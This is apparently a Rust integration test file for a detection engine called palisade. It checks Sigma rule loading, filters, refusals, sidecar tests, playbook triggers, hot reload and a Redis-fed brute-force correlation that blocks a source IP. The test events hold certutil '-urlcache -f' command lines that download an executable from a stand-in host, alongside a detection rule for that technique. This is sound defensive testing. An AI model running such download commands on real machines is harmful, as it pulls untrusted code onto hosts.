//! Sigma rules through the command line: loading from `rules/` and `sigma.folders`, refusals,
//! filters, sidecar tests, playbook triggers and what detections carry.

use std::path::Path;

use crate::support::{assert_success, json_lines, palisade, stdout};

const CERTUTIL: &str = r#"title: Certutil fetches a file
id: 0b7c8f0e-5c1d-4d7e-9a43-0c2f1e7d9a11
name: certutil_fetch
status: stable
author: Test Author
references:
  - https://example.org/certutil
tags: [attack.command-and-control, attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|windash|contains: ' -urlcache '
  condition: selection
level: high
"#;

fn event(host: &str, cmdline: &str) -> String {
    serde_json::json!({
        "type": "process_create", "timestamp": "2025-11-03T14:30:00Z", "host": host,
        "pid": 4_200_301, "name": "certutil.exe",
        "image": "C:\\Windows\\System32\\certutil.exe", "cmdline": cmdline,
    })
    .to_string()
}

fn content(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    for sub in ["rules", "playbooks"] {
        std::fs::create_dir_all(dir.path().join(sub)).expect("mkdir");
    }
    for (path, text) in files {
        let path = dir.path().join(path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    }
    dir
}

fn replay(dir: &Path, events: &[String]) -> Vec<serde_json::Value> {
    std::fs::write(dir.join("events.jsonl"), events.join("\n")).expect("events");
    let out = palisade(&["replay", "--events", "events.jsonl", "--dir", "."], dir);
    assert_success(&out);
    json_lines(&stdout(&out))
}

/// A Sigma detection carries the rule's title, level as severity, tags, and the author and
/// references its licence asks alerts to keep; a playbook names the rule by its file stem.
#[test]
fn a_sigma_rule_fires_with_its_metadata_and_triggers_a_playbook_by_file_stem() {
    let dir = content(&[
        ("rules/certutil_fetch.yml", CERTUTIL),
        (
            "playbooks/tell.yaml",
            "id: tell\ntitle: Tell\ntrigger: {rules: [certutil_fetch]}\nsteps:\n  - id: say\n    action: notify.log\n    with: {message: \"certutil on {{ event.host }}\"}\n",
        ),
    ]);
    let lines = replay(
        dir.path(),
        &[
            event(
                "ws-1",
                "certutil.exe -urlcache -f http://x.example/a.exe a.exe",
            ),
            event("ws-2", "certutil.exe -verify cert.cer"),
        ],
    );
    let detections: Vec<_> = lines.iter().filter(|l| l["kind"] == "detection").collect();
    assert_eq!(detections.len(), 1, "{lines:?}");
    let d = detections[0];
    assert_eq!(d["rule"], "0b7c8f0e-5c1d-4d7e-9a43-0c2f1e7d9a11");
    assert_eq!(d["severity"], "high");
    assert_eq!(d["title"], "Certutil fetches a file");
    assert_eq!(d["author"], "Test Author");
    assert_eq!(d["references"][0], "https://example.org/certutil");
    assert_eq!(d["tags"][1], "attack.t1105");
    let actions: Vec<_> = lines.iter().filter(|l| l["kind"] == "action").collect();
    assert_eq!(actions.len(), 1, "{lines:?}");
    assert_eq!(actions[0]["playbook"], "tell");
}

/// Item 7: a team silences a noisy rule for one host in its own file; validate checks the rule
/// it names exists.
#[test]
fn a_sigma_filter_silences_the_rule_it_names_for_one_host_only() {
    let filter = r#"title: Our packaging host fetches with certutil
id: 7e0f3c52-3b3a-4bb0-8a1e-6d7a5f0c2b90
logsource: {product: windows, category: process_creation}
filter:
  rules: [certutil_fetch]
  packaging_host:
    Computer: ws-1
  condition: not packaging_host
"#;
    let dir = content(&[
        ("rules/certutil_fetch.yml", CERTUTIL),
        ("rules/filters/packaging.yml", filter),
    ]);
    let cmd = "certutil.exe -urlcache -f http://x.example/a.exe a.exe";
    let lines = replay(dir.path(), &[event("ws-1", cmd), event("ws-2", cmd)]);
    let hosts: Vec<_> = lines
        .iter()
        .filter(|l| l["kind"] == "detection")
        .map(|l| l["event_id"].clone())
        .collect();
    assert_eq!(hosts.len(), 1, "only ws-2's event fires: {lines:?}");

    std::fs::write(
        dir.path().join("rules/filters/packaging.yml"),
        filter.replace("[certutil_fetch]", "[certutil_fetsh]"),
    )
    .expect("write");
    let out = palisade(&["validate", "."], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(stdout(&out).contains("certutil_fetsh"), "{}", stdout(&out));
}

/// A rule in the team's own rules/ that cannot run exactly fails validate with its position;
/// the same rule in a configured corpus folder is refused, counted and left out, and validate
/// succeeds.
#[test]
fn a_rule_that_cannot_run_exactly_is_an_error_in_rules_and_a_counted_refusal_in_a_corpus() {
    let unknown_field = CERTUTIL.replace("Image|endswith", "NoSuchField|endswith");
    let dir = content(&[("rules/bad.yml", &unknown_field)]);
    let out = palisade(&["validate", "."], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("rules/bad.yml:12:5"),
        "the field's position: {}",
        stdout(&out)
    );
    assert!(stdout(&out).contains("NoSuchField"), "{}", stdout(&out));

    let registry = r#"title: A registry rule
id: 2a0d5c1e-9f61-4c1b-8d52-3f7e0a9b6c44
status: stable
logsource: {product: windows, category: registry_set}
detection:
  selection: {TargetObject|contains: '\Run\'}
  condition: selection
level: high
"#;
    let dir = content(&[
        ("corpus/good.yml", CERTUTIL),
        (
            "corpus/bad.yml",
            &unknown_field
                .replace("0b7c8f0e", "1b7c8f0e")
                .replace("certutil_fetch", "other"),
        ),
        ("corpus/registry.yml", registry),
        ("palisade.yaml", "sigma:\n  folders: [corpus]\n"),
    ]);
    let out = palisade(&["validate", "."], dir.path());
    assert_success(&out);
    let text = stdout(&out);
    assert!(text.contains("1 Sigma rule(s)"), "{text}");
    assert!(
        text.contains("skipped      1  logsource windows/registry_set/-"),
        "{text}"
    );
    assert!(
        text.contains("refused      1  sigma-unknown-field"),
        "{text}"
    );
    let out = palisade(&["validate", ".", "--refusals"], dir.path());
    assert!(
        stdout(&out).contains("corpus/bad.yml:12:5: refused[sigma-unknown-field]"),
        "{}",
        stdout(&out)
    );
}

/// Item 6: test cases for a Sigma rule live in a sidecar; `palisade test` runs them and fails
/// when the rule does not do what a case says, naming the case.
#[test]
fn sidecar_tests_run_and_a_wrong_expectation_fails() {
    let sidecar = |fires: bool| {
        format!(
            "tests:\n  - name: a download fires\n    events:\n      - {{type: process_create, pid: 4200302, name: certutil.exe, image: 'C:\\Windows\\certutil.exe', cmdline: 'certutil /urlcache /f http://x/a a'}}\n    expect: {{fires: {fires}}}\n"
        )
    };
    let dir = content(&[
        ("rules/certutil_fetch.yml", CERTUTIL),
        ("rules/certutil_fetch.tests.yaml", &sidecar(true)),
    ]);
    let out = palisade(&["test", "."], dir.path());
    assert_success(&out);
    assert!(
        stdout(&out).contains("PASS  certutil_fetch › a download fires"),
        "{}",
        stdout(&out)
    );

    std::fs::write(
        dir.path().join("rules/certutil_fetch.tests.yaml"),
        sidecar(false),
    )
    .expect("write");
    let out = palisade(&["test", "."], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("FAIL  certutil_fetch › a download fires"),
        "{}",
        stdout(&out)
    );

    std::fs::write(
        dir.path().join("rules/certutil_fetch.tests.yaml"),
        format!("rule: no-such-rule\n{}", sidecar(true)),
    )
    .expect("write");
    let out = palisade(&["validate", "."], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(stdout(&out).contains("no-such-rule"), "{}", stdout(&out));
}

/// A Sigma rule may not take an id a Rhai rule has: triggers and metrics name rules by id.
#[test]
fn a_sigma_rule_with_a_rhai_rules_id_is_refused() {
    let rhai = "let rule = #{ id: \"0b7c8f0e-5c1d-4d7e-9a43-0c2f1e7d9a11\", title: \"T\", severity: \"low\", events: [\"process_create\"], filter: #{ name: \"x.exe\" } };";
    let dir = content(&[
        ("rules/certutil_fetch.yml", CERTUTIL),
        ("rules/same.rhai", rhai),
    ]);
    let out = palisade(&["validate", "."], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("duplicate-rule-id"),
        "{}",
        stdout(&out)
    );
}

/// Every Sigma rule the project ships has a positive and a negative case.
#[test]
fn every_shipped_sigma_rule_has_a_positive_and_a_negative_case() {
    let folder = crate::support::repo().join("rules/sigma");
    let mut rules = 0;
    for entry in std::fs::read_dir(&folder).expect("rules/sigma") {
        let path = entry.expect("entry").path();
        let name = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or_default()
            .to_string();
        if !name.ends_with(".yml") {
            continue;
        }
        rules += 1;
        let sidecar = folder.join(name.replace(".yml", ".tests.yaml"));
        let text = std::fs::read_to_string(&sidecar)
            .unwrap_or_else(|_| panic!("{name} has no sidecar {}", sidecar.display()));
        let positive = text.contains("fires: true") || text.contains("detection:");
        assert!(
            positive && text.contains("fires: false"),
            "{name}: needs a positive and a negative case"
        );
    }
    assert!(rules >= 7, "{rules}");
}

/// A rule edited in a configured corpus folder while the engine runs is loaded again and applies
/// to the next event.
#[test]
fn a_sigma_rule_edited_in_a_corpus_folder_applies_while_running() {
    use std::io::{BufRead, Write};
    let dir = content(&[
        ("corpus/windows/certutil_fetch.yml", CERTUTIL),
        (
            "palisade.yaml",
            "sigma:\n  folders: [corpus]\nhttp:\n  listen: 127.0.0.1:0\n",
        ),
    ]);
    let (mut child, log) = crate::support::run_on_pipes(dir.path());
    let read_log = || std::fs::read_to_string(&log).unwrap_or_default();
    assert!(
        crate::support::eventually(crate::support::PATIENCE, || read_log()
            .contains("palisade is running")),
        "{}",
        read_log()
    );
    let mut stdin = child.stdin.take().expect("stdin");
    let mut lines = std::io::BufReader::new(child.stdout.take().expect("stdout")).lines();
    let mut severity_of = |id: &str| -> String {
        let mut event: serde_json::Value =
            serde_json::from_str(&event("ws-1", "certutil -urlcache -f http://x/a a"))
                .expect("json");
        event["id"] = id.into();
        stdin
            .write_all(format!("{event}\n").as_bytes())
            .expect("write");
        stdin.flush().expect("flush");
        for line in lines.by_ref().map_while(Result::ok) {
            let value: serde_json::Value = serde_json::from_str(&line).expect("json line");
            if value["kind"] == "detection" && value["event_id"] == id {
                return value["severity"].as_str().unwrap_or_default().to_string();
            }
        }
        String::new()
    };
    assert_eq!(severity_of("before"), "high");
    std::fs::write(
        dir.path().join("corpus/windows/certutil_fetch.yml"),
        CERTUTIL.replace("level: high", "level: critical"),
    )
    .expect("edit");
    assert!(
        crate::support::eventually(crate::support::PATIENCE, || read_log()
            .contains("content reloaded")),
        "{}",
        read_log()
    );
    assert_eq!(severity_of("after"), "critical");
    drop(stdin);
    assert!(child.wait().expect("wait").success(), "{}", read_log());
}

/// The issue's correlation example with the shipped content, from a real Redis stream through
/// the `palisade` binary: twenty failed logins from one source in five minutes are one
/// detection and one block for that source, also when the engine restarts in the middle of the
/// window; nineteen from another source are nothing; the next window can fire again.
#[test]
fn shipped_brute_force_correlation_blocks_once_per_source_per_window_across_a_restart() {
    use crate::support::{EngineProcess, RedisServer, eventually, redis_content};
    const CORRELATION: &str = "e43a01ee-2eff-4abb-8b59-bcf148344179";
    let server = RedisServer::start();
    let dir = redis_content(
        &server,
        "  type: redis_stream\n  stream: logins\n  claim_idle_ms: 2000\n",
    );
    let mut last_id = String::new();
    let mut publish = |first: usize, count: usize, source: &str, start_second: i64| {
        for i in first..first + count {
            let at = 1_762_160_400_000 + (start_second + (i - first) as i64 * 5) * 1_000;
            let event = serde_json::json!({
                "type": "login", "timestamp": at, "id": format!("login-{source}-{i}"),
                "host": "vpn-1", "user": format!("user{}", i % 4), "source_ip": source,
                "outcome": "failure", "method": "password",
            });
            if let Ok(redis::Value::BulkString(id)) =
                server.query(&["XADD", "logins", "*", "data", &event.to_string()])
            {
                last_id = String::from_utf8_lossy(&id).to_string();
            }
        }
        last_id.clone()
    };
    // Everything up to `id` was read by the group and acknowledged.
    let delivered = |id: &str| {
        let Ok(redis::Value::Array(groups)) = server.query(&["XINFO", "GROUPS", "logins"]) else {
            return false;
        };
        let read_up_to = groups.iter().any(|group| match group {
            redis::Value::Array(fields) => fields.windows(2).any(|pair| {
                matches!(&pair[0], redis::Value::BulkString(k) if k == b"last-delivered-id")
                    && matches!(&pair[1], redis::Value::BulkString(v) if v == id.as_bytes())
            }),
            _ => false,
        });
        let pending = server.query(&["XPENDING", "logins", "palisade"]);
        read_up_to
            && matches!(pending, Ok(redis::Value::Array(p)) if matches!(p.first(), Some(redis::Value::Int(0))))
    };
    let blocks = |source: &str| -> usize {
        server
            .alerts("palisade:alerts")
            .iter()
            .filter(|a| a["rule"] == CORRELATION && a["entity"]["ip"] == source)
            .inspect(|a| {
                assert_eq!(a["actions"][0]["action"], "firewall.block", "{a}");
                assert_eq!(a["actions"][0]["target"], source, "{a}");
            })
            .count()
    };

    // Twelve failures, then the engine stops in the middle of the window.
    let last = publish(0, 12, "203.0.113.77", 0);
    let engine = EngineProcess::start(dir.path(), "first");
    assert!(
        eventually(crate::support::PATIENCE, || delivered(&last)),
        "{}",
        engine.log()
    );
    engine.stop();
    assert_eq!(blocks("203.0.113.77"), 0);

    // Eight more (the twentieth fires), then forty more in the same window: one block.
    let engine = EngineProcess::start(dir.path(), "second");
    publish(12, 48, "203.0.113.77", 60);
    let last = publish(0, 19, "198.51.100.9", 0);
    assert!(
        eventually(crate::support::PATIENCE, || delivered(&last)),
        "{}",
        engine.log()
    );
    assert_eq!(blocks("203.0.113.77"), 1, "{}", engine.log());
    assert_eq!(
        blocks("198.51.100.9"),
        0,
        "nineteen failures are not enough"
    );

    // A window later, twenty more fire again.
    let last = publish(100, 20, "203.0.113.77", 1_800);
    assert!(
        eventually(crate::support::PATIENCE, || delivered(&last)),
        "{}",
        engine.log()
    );
    assert_eq!(blocks("203.0.113.77"), 2, "{}", engine.log());
    engine.stop();
}
